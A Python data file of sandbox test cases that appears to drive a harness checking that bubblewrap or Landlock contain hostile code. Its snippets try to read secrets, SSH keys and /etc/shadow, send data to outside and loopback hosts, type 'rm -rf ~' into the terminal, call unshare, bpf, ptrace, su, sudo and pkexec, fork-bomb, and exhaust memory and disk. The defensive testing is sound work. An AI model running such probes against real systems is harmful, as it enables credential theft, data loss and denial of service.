"""What hostile code tries, and what must come of it. Data: read by `host.py`, which plays the person's computer.

Each code runs in a seal, after `PRELUDE`, with these names: HOME (the person's home), WORKSPACE, SECRET_FILE,
OWNER (the process that started it), PORT (a port of the host that listens for TCP and UDP), ABSTRACT and SOCKET
(names of listening UNIX sockets), DATAGRAM (of one that takes datagrams), SHARED (the key of a piece of memory that
programs share). The host checks after every case, whatever it printed, that the secret shows
up nowhere and no process is left; and at the end that no file of the person changed or appeared and that nothing
arrived at its sockets.
"""

from __future__ import annotations

from dataclasses import dataclass, field

PRELUDE = '''
import os, socket, sys, time
def attempt(name, act):
    """Print whether something that must not work did."""
    try:
        result = act()
    except BaseException as error:
        print(f"{name}: refused ({type(error).__name__}: {error})", flush=True)
    else:
        print(f"{name}: DONE {result!r}", flush=True)
def write(path):
    with open(path, "a") as file:
        file.write("owned")
'''

FILES = "no file of the person has changed"
CANCELLED = "cancelled in its first milliseconds"
OWN_FILES = "asks our own file layer for what is outside"
SOCKETS = "nothing arrived at the sockets of the host"

BOTH = ("bubblewrap", "landlock")
STRONG = ("bubblewrap",)


@dataclass(frozen=True)
class Case:
    """`code` must not print anything that matches `never` and must print what matches each of `must`; it ends with
    one of `statuses`. `seals` are those that promise it. `limits` change the limits of the run."""

    name: str
    code: str
    seals: tuple[str, ...] = BOTH
    never: str = "DONE"
    must: tuple[str, ...] = ()
    statuses: tuple[str, ...] = ("exited",)
    limits: dict[str, float] = field(default_factory=dict[str, float])


CASES = [
    Case(
        "reads the person's keys",
        """
attempt("key", lambda: open(SECRET_FILE).read())
attempt("home", lambda: open(HOME + "/secret").read())
attempt("root link", lambda: open("/proc/self/root" + SECRET_FILE).read())
attempt("init", lambda: open("/proc/1/root" + SECRET_FILE).read())
attempt("owner", lambda: open(f"/proc/{OWNER}/root" + SECRET_FILE).read())
attempt("cwd", lambda: open(f"/proc/{OWNER}/cwd/" + SECRET_FILE).read())
os.symlink(SECRET_FILE, "link")
attempt("link", lambda: open("link").read())
attempt("hard link", lambda: os.link(SECRET_FILE, "hard"))
attempt("rename", lambda: os.rename(SECRET_FILE, "moved"))
attempt("workspace's own", lambda: open(WORKSPACE + "/.env").read())
attempt("shadow", lambda: open("/etc/shadow").read())
""",
    ),
    Case(
        "writes outside",
        """
# What looks like the person's home here is an empty folder of the seal; some of it may be writable for the moment.
for path in (HOME + "/.bashrc", HOME + "/new", "../new", HOME + "/../new"):
    try:
        write(path)
        os.truncate(path, 0)
        os.unlink(path)
        os.mkdir(HOME + "/folder")
        os.symlink("x", HOME + "/link")
    except OSError:
        pass
for path in ("/etc/passwd", "/etc/cron.d/x", "/usr/x", "/usr/bin/python3", "/root/.bashrc", "/var/x", "/opt/x"):
    attempt(path, lambda: write(path))
""",
    ),
    Case(
        "changes the workspace through its own path",
        """
for path in ("/cart.py", "/.git/hooks/post-commit", "/new.py", "/conftest.py"):
    try:
        write(WORKSPACE + path)
    except OSError:
        pass
print("tried")
""",
        must=("tried",),
    ),
    Case(
        "writes into the interpreter",
        """
import sysconfig
for key in ("stdlib", "purelib", "scripts"):
    attempt(key, lambda: write(sysconfig.get_path(key) + "/owned.pth"))
""",
    ),
    Case(
        "connects to the host's network",
        """
def tcp(address):
    with socket.create_connection(address, timeout=2) as connected:
        connected.sendall(b"leak")
        return connected.recv(10)
attempt("loopback", lambda: tcp(("127.0.0.1", PORT)))
attempt("other loopback", lambda: tcp(("127.1.2.3", PORT)))
attempt("outside", lambda: tcp(("192.0.2.1", 80)))
attempt("v6", lambda: tcp(("::1", PORT)))
attempt("name", lambda: socket.getaddrinfo("example.com", 80))
""",
    ),
    Case(
        "sends datagrams to the host",
        """
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plain:
        for host in ("127.0.0.1", "127.1.2.3", "192.0.2.1"):
            try:
                plain.sendto(b"leak", (host, PORT))
            except OSError:
                pass
except OSError:
    pass
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
""",
    ),
    Case(
        "connects to the host's UNIX sockets",
        """
def unix(address):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connected:
        connected.connect(address)
        connected.sendall(b"leak")
attempt("abstract", lambda: unix("\\0" + ABSTRACT))
attempt("path", lambda: unix(SOCKET))
attempt("docker", lambda: unix("/var/run/docker.sock"))
""",
    ),
    Case(
        "looks for secrets in environments",
        """
print(dict(os.environ))
try:
    names = os.listdir("/proc")
except OSError:
    names = [str(OWNER), "1", "self"]
for name in names:
    if name.isdigit():
        for what in ("environ", "maps", "mem"):
            try:
                data = open(f"/proc/{name}/{what}", "rb").read(1 << 20)
            except (OSError, OverflowError):
                continue
            print(name, what, data if what == "environ" else len(data))
print("looked")
""",
        must=("looked",),
    ),
    Case(
        "looks for descriptors it should not have",
        """
found = []
for fd in range(3, 1024):
    try:
        os.fstat(fd)
    except OSError:
        continue
    found.append(fd)
    try:
        print(os.read(fd, 100))
    except OSError:
        pass
    try:
        print(open(os.open("secret", os.O_RDONLY, dir_fd=fd)).read())
    except OSError:
        pass
print("open:", found)
""",
        must=(r"open: \[\]",),
    ),
    Case(
        "signals and traces other processes",
        """
import ctypes, signal
attempt("stop owner", lambda: os.kill(OWNER, signal.SIGSTOP))
attempt("kill owner", lambda: os.kill(OWNER, signal.SIGKILL))
libc = ctypes.CDLL(None, use_errno=True)
def call(what, result):
    if result < 0:
        raise OSError(ctypes.get_errno(), what)
attempt("ptrace", lambda: call("attach", libc.ptrace(16, OWNER, 0, 0)))
attempt("traceme", lambda: call("traceme", libc.ptrace(0, 0, 0, 0)))
""",
    ),
    Case(
        "calls the kernel's dangerous doors",
        """
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() == "x86_64"
def syscall(number, *arguments):
    def act():
        result = libc.syscall(ctypes.c_long(number), *arguments)
        if result < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return result
    return act
attempt("unshare user", syscall(272 if x86 else 97, ctypes.c_long(0x10000000)))
attempt("unshare mount", syscall(272 if x86 else 97, ctypes.c_long(0x20000)))
attempt("clone user", syscall(56 if x86 else 220, ctypes.c_long(0x10000011), None, None, None, None))
attempt("io_uring", syscall(425, ctypes.c_long(8), ctypes.create_string_buffer(120)))
attempt("keyctl", syscall(250 if x86 else 219, ctypes.c_long(0), ctypes.c_long(-3), ctypes.c_long(0)))
attempt("add_key", syscall(248 if x86 else 217, b"user", b"x", b"y", ctypes.c_long(1), ctypes.c_long(-2)))
attempt("bpf", syscall(321 if x86 else 280, ctypes.c_long(0), ctypes.create_string_buffer(128), ctypes.c_long(128)))
attempt("userfaultfd", syscall(323 if x86 else 282, ctypes.c_long(1)))
attempt("mount", syscall(165 if x86 else 40, b"none", b"/tmp", b"tmpfs", ctypes.c_long(0), None))
attempt("by handle", syscall(304 if x86 else 265, ctypes.c_long(-100), ctypes.create_string_buffer(64), ctypes.c_long(0)))
attempt("perf", syscall(298 if x86 else 241, ctypes.create_string_buffer(128), ctypes.c_long(0), ctypes.c_long(-1), ctypes.c_long(-1), ctypes.c_long(0)))
attempt("setns", syscall(308 if x86 else 268, ctypes.c_long(0), ctypes.c_long(0)))
attempt("chroot", lambda: os.chroot("."))
attempt("device", lambda: os.mknod("dev", 0o20666, os.makedev(1, 5)))
attempt("root again", lambda: os.setuid(0))
""",
    ),
    Case(
        "has no rights left",
        """
status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
print("uid", os.getuid() != 0, os.geteuid() != 0, os.getgroups() in ([], [os.getgid()]) or "groups")
print("privileges", status["NoNewPrivs"], "filter", status["Seccomp"])
print("effective", int(status["CapEff"], 16) & ~6, "permitted", int(status["CapPrm"], 16) & ~6)
""",
        # Bits 1 and 2 let closed folders be passed on the way to an allowed path; Landlock decides what is read.
        must=("uid True True True", "privileges 1 filter 2", "effective 0 permitted 0"),
    ),
    Case(
        "writes kernel settings",
        """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/domainname", "/proc/sysrq-trigger",
             "/sys/kernel/mm/transparent_hugepage/enabled"):
    attempt(path, lambda: write(path))
""",
    ),
    Case(
        "types into the person's terminal",
        """
import fcntl
attempt("tty", lambda: open("/dev/tty", "w").write("rm -rf ~\\n"))
attempt("inject", lambda: fcntl.ioctl(0, 0x5412, b"x"))
print(repr(sys.stdin.read()), sys.stdin.isatty())
os.write(1, b"Content-Length: 5\\r\\n\\r\\nhello")
""",
        must=("'' False", "Content-Length"),
    ),
    Case(
        "writes in the root folder and the devices",
        """
for path in ("/foo", "/dev/foo", "/home/foo", "/proc/foo", "/dev/sda", "/dev/mem", "/dev/kmsg"):
    attempt(path, lambda: write(path))
""",
    ),
    Case(
        "fills its private disks",
        """
full = []
for folder in ("/tmp", "/dev/shm", os.environ["HOME"]):
    try:
        with open(folder + "/big", "wb") as big:
            for _ in range(64):
                big.write(b"x" * (1 << 20))
        print("DONE", folder)
    except OSError as error:
        print(folder, error.strerror)
""",
        seals=STRONG,
        must=("/tmp No space", "/dev/shm No space"),
        limits={"temp": 8 << 20},
    ),
    Case(
        "writes a file larger than allowed",
        """
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
def fill():
    with open("big", "wb") as big:
        for _ in range(64):
            big.write(b"x" * (1 << 20))
attempt("big", fill)
""",
        limits={"file_size": 16 << 20},
    ),
    Case(
        "leaves daemons behind",
        """
for number in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        time.sleep(600)
print("main ends")
""",
        must=("main ends",),
    ),
    Case(
        "ignores signals and sleeps for ever",
        """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
if os.fork() == 0:
    os.setsid()
os.fork()
time.sleep(600)
""",
        statuses=("timeout",),
        limits={"wall": 1.0},
    ),
    Case(
        "forks a hydra",
        """
end = time.monotonic() + 30
def head():
    while time.monotonic() < end:
        if os.fork() == 0:
            os.setsid()
            continue
        time.sleep(0.002)
        os._exit(0)
for _ in range(3):
    if os.fork() == 0:
        head()
time.sleep(600)
""",
        statuses=("timeout",),
        limits={"wall": 1.0},
    ),
    Case(
        "forks until nothing is left",
        """
count = 0
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    except OSError:
        break
    count += 1
else:
    print("DONE")
print("forks were refused")
""",
        must=("forks were refused",),
        limits={"processes": 60, "wall": 30},
    ),
    Case(
        "fills the memory of one process",
        """
try:
    held = bytearray(3 << 30)
    print("DONE")
except MemoryError:
    print("refused")
""",
        must=("refused",),
        limits={"memory": 1 << 30},
    ),
    Case(
        "fills the memory with many processes",
        """
for _ in range(3):
    os.fork()
held = bytearray(os.urandom(1)) * (60 << 20)
time.sleep(60)
""",
        statuses=("memory_limit",),
        limits={"memory": 300 << 20, "wall": 30},
    ),
    Case(
        "reads the keys of the computer's servers",
        """
for folder in ("/etc/ssl/private", "/etc/pki/tls/private", "/etc/ssh"):
    attempt(folder, lambda: os.listdir(folder))
attempt("key", lambda: open("/etc/ssl/private/ssl-cert-snakeoil.key").read())
""",
    ),
    Case(
        "fills the memory with files in memory",
        """
held = [os.memfd_create("x") for _ in range(20)]
for fd in held:
    os.write(fd, b"x" * (30 << 20))
time.sleep(60)
""",
        statuses=("memory_limit",),
        limits={"memory": 300 << 20, "wall": 30},
    ),
    Case(
        "fills the disk with files that have no name",
        """
held = []
for number in range(300):
    held.append(open("big", "w+b", buffering=0))
    os.unlink("big")
    held[-1].write(b"x" * (1 << 20))
    os.fsync(held[-1].fileno())
time.sleep(60)
""",
        statuses=("memory_limit",),
        limits={"disk": 40 << 20, "wall": 30},
    ),
    Case(
        "makes files without end",
        """
os.mkdir("many")
for number in range(10**9):
    os.close(os.open(f"many/{number}", os.O_CREAT))
""",
        statuses=("memory_limit",),
        limits={"files": 3000, "wall": 60},
    ),
    Case(
        "makes files without end on its private disks",
        """
places = ("/tmp", "/dev/shm", os.environ["HOME"])
for number in range(10**9):
    os.close(os.open(f"{places[number % 3]}/{number}", os.O_CREAT))
""",
        seals=STRONG,
        statuses=("memory_limit",),
        limits={"files": 3000, "wall": 60},
    ),
    Case(
        "has a helper that keeps others from looking into it, as programs that hold keys do",
        """
import ctypes
if os.fork() == 0:
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE
    time.sleep(600)
time.sleep(5)
print("it may stay")
""",
        must=("it may stay",),
    ),
    Case(
        "prints without end",
        """
print("the head")
while True:
    print("x" * 1000)
""",
        must=("^the head", "left out"),
        statuses=("output_limit",),
        limits={"output": 1 << 16, "wall": 30},
    ),
    Case(
        "plants what is hard to remove",
        """
os.symlink("/etc", "etc")
os.symlink(HOME, "home")
os.mkfifo("pipe")
os.makedirs("closed/inner")
open("closed/inner/file", "w").close()
os.chmod("closed", 0)
os.close(os.open(b"bad\\xff\\nname", os.O_CREAT))
deep = "d" * 100
for _ in range(20):
    os.mkdir(deep)
    os.chdir(deep)
print("planted")
""",
        must=("planted",),
    ),
    Case(
        "changes modes and times of the person's files",
        """
attempt("chmod", lambda: os.chmod(SECRET_FILE, 0o777))
attempt("times", lambda: os.utime(SECRET_FILE, (0, 0)))
attempt("stat", lambda: os.stat(SECRET_FILE))
""",
        seals=STRONG,
    ),
    Case(
        "dumps its core",
        """
import signal
os.chdir(os.environ["TMPDIR"])
os.kill(os.getpid(), signal.SIGSEGV)
""",
    ),
    Case(
        "asks for more rights by a program that has them",
        """
import subprocess
for program in ("su", "sudo", "mount", "pkexec", "newuidmap"):
    try:
        ended = subprocess.run([program, "-c", "id -u"], capture_output=True, stdin=subprocess.DEVNULL, timeout=10)
        print(program, b"DONE" if ended.stdout.strip() == b"0" else "refused")
    except (OSError, subprocess.TimeoutExpired) as error:
        print(program, "refused", type(error).__name__)
""",
    ),
    Case(
        "looks around by other names of the same things",
        """
for name in ("self", "thread-self", "1", str(OWNER), str(os.getppid())):
    for part in ("root" + SECRET_FILE, "cwd/.ssh/id_rsa", "environ", "mem", "fd/3", "map_files", "cwd" + "/.." * 20 + SECRET_FILE):
        path = f"/proc/{name}/{part}"
        def act():
            data = open(path, "rb").read(200)
            if b"secret-" in data:
                return data
            raise OSError("nothing there")
        attempt(path, act)
for path in ("/proc/kcore", "/proc/kmsg", "/proc/sched_debug", "/dev/kvm", "/dev/fuse", "/dev/net/tun",
             "/dev/vsock", "/dev/vda", "/dev/sda", "/dev/loop-control", "/dev/mapper/control", "/dev/input/event0", "/dev/tty1"):
    attempt(path, lambda: os.open(path, os.O_RDONLY))
""",
    ),
    Case(
        "opens what it is told not to by the environment",
        """
left = [name for name in os.environ if name in (
    "LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONSTARTUP", "PYTHONPATH", "PYTHONHOME", "PYTEST_ADDOPTS", "PYTEST_PLUGINS", "BASH_ENV",
    "ENV", "GIT_SSH_COMMAND", "GIT_CONFIG_GLOBAL", "SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DISPLAY", "WAYLAND_DISPLAY",
    "XDG_RUNTIME_DIR", "DOCKER_HOST", "KUBECONFIG", "HTTP_PROXY", "https_proxy", "PERL5OPT", "NODE_OPTIONS", "PIP_INDEX_URL")]
print("left:", left)
""",
        must=(r"left: \[\]",),
    ),
    Case(
        "talks to programs by datagrams, from a pair that needs no socket call",
        """
for kind in (socket.SOCK_DGRAM, socket.SOCK_DGRAM | socket.SOCK_CLOEXEC, socket.SOCK_STREAM):
    for where in (DATAGRAM, SOCKET, "\\0" + ABSTRACT):
        def send():
            ours, theirs = socket.socketpair(socket.AF_UNIX, kind)
            ours.sendto(CANARY.encode(), where)
        def connect():
            ours, theirs = socket.socketpair(socket.AF_UNIX, kind)
            ours.connect(where)
            ours.send(CANARY.encode())
        attempt(f"send {kind} {where!r}", send)
        attempt(f"connect {kind} {where!r}", connect)
""",
    ),
    Case(
        "reads memory that programs share",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
def shared():
    number = libc.shmget(SHARED, 0, 0)
    if number < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    place = libc.shmat(number, None, 0o10000)
    if place in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    return ctypes.string_at(place, 40)
attempt("shared memory", shared)
def queue():
    if libc.msgget(SHARED, 0) < 0:
        raise OSError(ctypes.get_errno(), "msgget")
attempt("queue", queue)
""",
    ),
    Case(
        "hinders other processes of the person",
        """
import resource
attempt("limit", lambda: resource.prlimit(OWNER, resource.RLIMIT_NOFILE, (0, 0)))
attempt("cpu", lambda: os.sched_setaffinity(OWNER, {0}))
attempt("slow", lambda: os.setpriority(os.PRIO_PROCESS, OWNER, 19))
attempt("slow all", lambda: os.setpriority(os.PRIO_USER, 0, 19) if os.getpid() > 100 else 1 / 0)
attempt("idle", lambda: os.sched_setscheduler(OWNER, os.SCHED_IDLE, os.sched_param(0)))
print("own", resource.getrlimit(resource.RLIMIT_NOFILE)[0] > 0, os.nice(1) >= 0, len(os.sched_getaffinity(0)) > 0)
os.sched_setaffinity(0, os.sched_getaffinity(0))
""",
        must=("own True True True",),
    ),
    Case(
        "marks the person's files",
        """
for path in (HOME, SECRET_FILE, WORKSPACE + "/cart.py"):
    attempt("mark " + path, lambda: os.setxattr(path, "user.regreen", b"owned"))
    attempt("unmark " + path, lambda: os.removexattr(path, "user.mine"))
print("tried")
""",
        # In a seal that mounts, these are folders of the seal and the copy. The host looks at the real ones at the end.
        never=r"mark .*id_rsa: DONE",
        must=("tried",),
    ),
    Case(
        "gives names that are hard to handle",
        """
import ctypes
START = os.open(".", os.O_RDONLY)
os.makedirs("n/" + "x" * 255)
for name in (b"\\xff\\xfe", b"a\\nb", b"\\x1b[2J", b"-rf", b"\\xe2\\x80\\xae.py", "\u0301".encode(), b" ", b"CON"):
    os.close(os.open(b"n/" + name, os.O_CREAT))
os.symlink("x" * 4000, "n/long")
os.symlink("loop", "n/loop")
os.symlink("/proc/self/root", "n/magic")
server = socket.socketpair()[0]
attempt("socket", lambda: socket.socket(socket.AF_UNIX).bind("n/socket") or 1 / 0)
attempt("setuid", lambda: (os.chmod("cart.py", 0o6777), 1 / 0))
for depth in range(40):
    os.mkdir("y" * 200)
    os.chdir("y" * 200)
os.chmod(".", 0)
os.chdir(START)
os.mkdir("deep")
os.chdir("deep")
for depth in range(3000):
    os.mkdir("z")
    os.chdir("z")
time.sleep(5)  # Long enough to be looked at closely.
print("named")
""",
        must=("named",),
    ),
    Case(
        "replaces its own folders while it is looked after",
        """
os.rename("cart.py", "moved.py")
attempt("tree", lambda: os.rename(os.getcwd(), os.getcwd() + "x"))
attempt("tree link", lambda: os.rmdir(os.getcwd()))
""",
    ),
    Case(
        "what ordinary tests need works",
        """
import asyncio, getpass, multiprocessing, pwd, signal, sqlite3, ssl, subprocess, tempfile, threading, zoneinfo
from multiprocessing import shared_memory
def add(a, b): return a + b
print("user", pwd.getpwuid(os.getuid()).pw_name, getpass.getuser())
with tempfile.TemporaryDirectory() as folder:
    print("sqlite", sqlite3.connect(folder + "/x.db").execute("select 1").fetchone())
print("localhost", socket.gethostbyname("localhost"), socket.getaddrinfo("localhost", 80)[0][4][0])
server = socket.create_server(("127.0.0.1", 0))
with socket.create_connection(server.getsockname(), timeout=5) as connected:
    accepted, _ = server.accept()
    connected.sendall(b"hello")
    print("loopback", accepted.recv(5))
print("unix", [type(s).__name__ for s in socket.socketpair()])
with multiprocessing.get_context("fork").Pool(2) as pool:
    print("fork pool", pool.starmap(add, [(1, 2), (3, 4)]))
with multiprocessing.get_context("fork").Manager() as manager:
    print("manager", len(manager.list([1, 2])))
memory = shared_memory.SharedMemory(create=True, size=100)
memory.close(); memory.unlink()
print("shared memory")
async def child():
    process = await asyncio.create_subprocess_exec(sys.executable, "-c", "print(5)", stdout=-1)
    return (await process.communicate())[0]
print("asyncio", asyncio.run(child()))
ours, theirs = os.openpty()
os.write(theirs, b"hi\\n")
print("pty", os.read(ours, 10))
ssl.create_default_context()
print("zone", zoneinfo.ZoneInfo("UTC"))
print("new session", subprocess.run(["true"], start_new_session=True).returncode)
print("all of it")
""",
        seals=STRONG,
        must=(
            "user sealed sealed",
            "loopback b'hello'",
            r"fork pool \[3, 7\]",
            "manager 2",
            "pty b'hi",
            "all of it",
        ),
    ),
    Case(
        "what most tests need works with the weaker seal",
        """
import asyncio, multiprocessing, sqlite3, ssl, subprocess, tempfile, threading, zoneinfo
def add(a, b): return a + b
with tempfile.TemporaryDirectory() as folder:
    print("sqlite", sqlite3.connect(folder + "/x.db").execute("select 1").fetchone())
child_ends = multiprocessing.get_context("fork").Process(target=add, args=(1, 2))
child_ends.start(); child_ends.join()
print("process", child_ends.exitcode)
async def child():
    process = await asyncio.create_subprocess_exec(sys.executable, "-c", "print(5)", stdout=-1)
    return (await process.communicate())[0]
print("asyncio", asyncio.run(child()))
thread = threading.Thread(target=print, args=("thread",)); thread.start(); thread.join()
ssl.create_default_context()
print("session", subprocess.run(["true"], start_new_session=True).returncode)
print("all of it")
""",
        must=("all of it",),
    ),
]
